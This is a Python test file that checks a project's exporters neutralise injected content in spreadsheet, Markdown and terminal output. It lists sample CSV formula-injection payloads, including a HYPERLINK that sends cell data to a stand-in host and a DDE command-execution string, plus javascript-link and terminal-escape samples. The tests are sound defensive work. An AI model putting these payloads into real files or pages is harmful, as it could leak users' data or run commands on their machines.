"""What sources say stays text: in Markdown, in spreadsheets, on a terminal."""

from __future__ import annotations

import csv
import io
from html import escape

from markdown_it import MarkdownIt

from cityties.display.answer import Answer
from cityties.display.markdown import address_in_markdown, plain_in_markdown, table_in_markdown
from cityties.display.spreadsheet import csv_text, plain_cell
from cityties.network.figures import Figures
from cityties.questions.stats import Stats
from cityties.store import Literal, Rows

HOSTILE = (
    '=HYPERLINK("http://elsewhere.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", " =1",
    "\t=1", "\n=1", "＝1",
)  # fmt: skip


def test_no_cell_of_a_spreadsheet_is_a_formula() -> None:
    for text in HOSTILE:
        assert plain_cell(text) == f"'{text}"
    for text in ("Ankara", "-6.2", "+62", "1e-5", "-6", "", "2019-07-01", "a=b", 'say "=1"'):
        assert plain_cell(text) == text
    assert plain_cell(-6.2) == -6.2 and plain_cell(7) == 7
    written = csv_text(["=a", "b"], [[HOSTILE[0], 1], ["x;=1,2", -6.5]], spreadsheet=True)
    assert written.startswith('\ufeff"\'=a","b"\r\n'), "Excel knows UTF-8 by the mark"
    assert '\n"x;=1,2",-6.5' in written, "no separator of another country's Excel begins a cell"
    assert csv_text(["=a"], [["=b"]]) == "=a\r\n=b\r\n", "the standard's CSV holds what is so"


def test_answers_and_figures_are_written_for_spreadsheets() -> None:
    answer = Answer.of_rows(Rows(("name", "n"), [(Literal(HOSTILE[1]), Literal("-6.2")), (Literal("İzmir"), None)]))
    rows = list(csv.reader(io.StringIO(answer.text("spreadsheet").removeprefix("\ufeff"))))
    assert rows == [["name", "n"], [f"'{HOSTILE[1]}", "-6.2"], ["İzmir", ""]]
    figures = Figures(["city", "ties"], [["=1+1", 3]])
    assert figures.text("spreadsheet") == '\ufeff"city","ties"\r\n"\'=1+1",3\r\n'


def test_markdown_shows_what_is_said_as_it_is() -> None:
    reader = MarkdownIt("commonmark", {"html": True})
    for text in (
        "[click](javascript:alert(1)) <script> *b* _i_ `c` | ~~s~~ ![x](y) &lt; # \\", "# head", "> quote", "* * *",
        "12) twelve", "<!-- no comment -->", "a\n===", "<https://x/>", "[a]: /x", "$x$",
    ):  # fmt: skip
        shown = "".join(reader.render(plain_in_markdown(text)).removeprefix("<p>").removesuffix("</p>\n"))
        assert shown == escape(" ".join(text.split())).replace("&#x27;", "'")
    assert plain_in_markdown("- one") == "\\- one" and plain_in_markdown("1. one") == "1\\. one"
    assert plain_in_markdown("+ one\n= two") == "\\+ one = two" and plain_in_markdown("1.5 km") == "1.5 km"
    assert address_in_markdown("https://x/) [a](b <c>") == "https://x/%29%20[a]%28b%20%3Cc%3E"
    hostile = "a | [b](javascript:c)"
    for text in (
        table_in_markdown(["x"], [[hostile]]),
        Figures(["x"], [[hostile]]).text("markdown"),
        Stats({"x": [(hostile, 1)]}).text("markdown"),
        Answer.of_rows(Rows(("x",), [(Literal(hostile),)])).text("markdown"),
    ):
        assert "\\[b\\](javascript:c)" in text and "a \\| " in text


def test_a_terminal_obeys_no_label() -> None:
    answer = Answer.of_rows(Rows(("x",), [(Literal("a\x1b[31mred\x07\u202egnp.exe"),)]))
    shown = answer.text("table")
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown and "red" in shown
